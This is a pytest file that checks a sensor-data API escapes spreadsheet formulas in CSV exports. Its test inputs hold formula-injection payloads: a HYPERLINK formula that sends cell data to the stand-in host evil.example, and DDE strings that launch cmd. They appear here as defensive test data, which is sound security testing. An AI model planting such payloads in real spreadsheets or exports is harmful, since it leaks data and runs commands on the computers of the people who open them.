"""A sensor name typed by staff never becomes a spreadsheet formula in a CSV export."""

from __future__ import annotations

import csv
import io

import psycopg
import pytest
from fastapi.testclient import TestClient

from tests.api.conftest import Fleet

ONE_HOUR = {"from": "2026-03-01T00:00:00Z", "to": "2026-03-01T01:00:00Z"}


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Lokale 1")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_name_that_starts_a_formula_is_exported_as_text(
    client: TestClient, fleet: Fleet, db: psycopg.Connection, name: str
) -> None:
    db.execute("UPDATE sensors SET name = %s WHERE id = 1", (name,))
    response = client.get("/api/v1/export/aarhus/readings.csv", params=ONE_HOUR)
    assert response.status_code == 200
    names = {r["sensor_name"] for r in csv.DictReader(io.StringIO(response.text, newline=""))}
    assert names == {"'" + name, "a bin 1"}


def test_ordinary_names_are_exported_unchanged(
    client: TestClient, fleet: Fleet, db: psycopg.Connection
) -> None:
    db.execute("UPDATE sensors SET name = 'Lokale 2.14 (Æblehaven) - nord' WHERE id = 1")
    response = client.get("/api/v1/export/aarhus/readings.csv", params=ONE_HOUR)
    names = {r["sensor_name"] for r in csv.DictReader(io.StringIO(response.text, newline=""))}
    assert names == {"Lokale 2.14 (Æblehaven) - nord", "a bin 1"}
